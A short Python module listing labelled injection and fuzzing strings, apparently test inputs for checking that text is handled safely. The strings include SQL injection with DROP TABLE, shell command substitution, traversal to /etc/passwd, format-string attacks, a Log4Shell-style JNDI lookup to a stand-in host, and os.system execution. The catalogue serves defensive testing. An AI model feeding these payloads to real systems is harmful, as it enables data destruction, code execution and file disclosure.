"""What a shell, a database, a file system or a programming language would act upon."""

from collections.abc import Mapping
from typing import Final

PROGRAMS: Final[Mapping[str, str]] = {
    "SQL, out of a string": "'; DROP TABLE fiches; --",
    "SQL, parameters": ":now :path %(x)s ? $1 {x}",
    "SQL, like": "%_[a-z]%\\",
    "SQL, PostgreSQL": "$$; SELECT pg_sleep(5); $$ E'\\x00' ::regclass",
    "shell, substitution": "$(touch /tmp/pp_canari) `id` ${IFS}",
    "shell, chain": "; id | cat && true || false > /dev/null &",
    "shell, option": "--help -rf --config=/etc/passwd",
    "path up": "../../../../etc/passwd",
    "path up, encoded": "..%2f..%2fetc%2fpasswd %00 ..%c0%af",
    "path, forbidden letters": 'a/b\\c:d*e?f"g<h>i|j',
    "path, reserved by Windows": "CON",
    "path, reserved with its extension": "nul.txt",
    "path, trailing dot and space": "fichier. ",
    "path, stream": "fichier.txt:cache",
    "file address": "file:///etc/passwd",
    "format, C": "%s%s%s%n %d %x %99999999s",
    "format, Python": "{0} {} {0.__class__.__init__.__globals__} {x!r:>999}",
    "format, logging": "%(levelname)s %(x)d ${jndi:ldap://exemple.invalid/x}",
    "format, string.Template": "$x ${y} $$ $",
    "Python": "__import__('os').system('id')",
    "Python, dunder": "__class__",
    "JavaScript": "'-alert(1)-' ${alert(1)} `${1}` \\u0027",
    "regular expression": "(a+)+$ [z-a] (?<x>y) \\1 (",
    "replacement": "\\1 \\g<0> $1 $&",
    "address": "?fiche=x&retour=relecture#y",
    "address, encoded": "%3Cscript%3E %0d%0a %E0%80%80 %u0041",
}
